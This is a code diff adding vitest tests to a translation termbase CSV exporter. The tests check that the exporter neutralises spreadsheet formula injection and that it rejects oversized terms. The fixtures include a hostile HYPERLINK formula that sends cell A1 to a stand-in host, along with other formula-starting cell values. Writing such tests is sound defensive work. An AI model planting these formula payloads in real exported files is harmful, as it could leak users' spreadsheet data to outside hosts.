@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { readTermsCsv, writeTermsCsv } from '../../core/translate/termbase-csv';
 import type { TermInput } from '../../core/translate/termbase';
+import { MAX_TERM_CHARS } from '../../core/limits';
 import { tempDir } from '../helpers/temp-dir';
 
 const TERMS: TermInput[] = [
@@ -83,5 +84,35 @@ describe('termbase CSV', () => {
       problems: [{ line: 1, reason: 'the header lacks the columns az, en, ru' }],
     });
     expect(readTermsCsv('az,en\nprokuror,prosecutor\n').problems).toEqual([{ line: 1, reason: 'the header lacks the column ru' }]);
+  });
+});
+
+describe('cells a spreadsheet would evaluate', () => {
+  const hostile: TermInput[] = [
+    { az: '=HYPERLINK("http://x.example/?"&A1,"bax")', en: '+1+1', ru: '-2+3' },
+    { az: '@SUM(1)', en: '\tcmd', ru: "'=already quoted" },
+    { az: "'s-Hertogenbosch", en: 'ordinary', ru: 'обычный', forbidden: { en: ['=BAD()', 'fine'] } },
+  ];
+
+  it('are written behind an apostrophe, so no cell starts with a formula character', () => {
+    const rows = writeTermsCsv(hostile).replace(/^\uFEFF/, '').split('\r\n').slice(1, -1);
+    const cells = rows.flatMap((row) => row.split(',')).map((cell) => cell.replace(/^"/, ''));
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows[0].startsWith(`"'=HYPERLINK`)).toBe(true);
+  });
+
+  it('read back from our own file exactly as they were', () => {
+    const read = readTermsCsv(writeTermsCsv(hostile));
+    expect(read.problems).toEqual([]);
+    expect(read.terms).toEqual(hostile.map((term) => ({ ...term, en: term.en.trim(), ru: term.ru.trim(), az: term.az.trim() })));
+  });
+});
+
+describe('a term beyond the limit', () => {
+  it('is refused with the line named, however long (7 MB)', () => {
+    const long = 'ə'.repeat(7 * 1024 * 1024);
+    const read = readTermsCsv(`az,en,ru\r\n${long},x,y\r\nqısa,short,короткий\r\n`);
+    expect(read.terms).toEqual([{ az: 'qısa', en: 'short', ru: 'короткий' }]);
+    expect(read.problems).toEqual([{ line: 2, reason: `a term longer than ${MAX_TERM_CHARS} characters, the limit` }]);
   });
 });
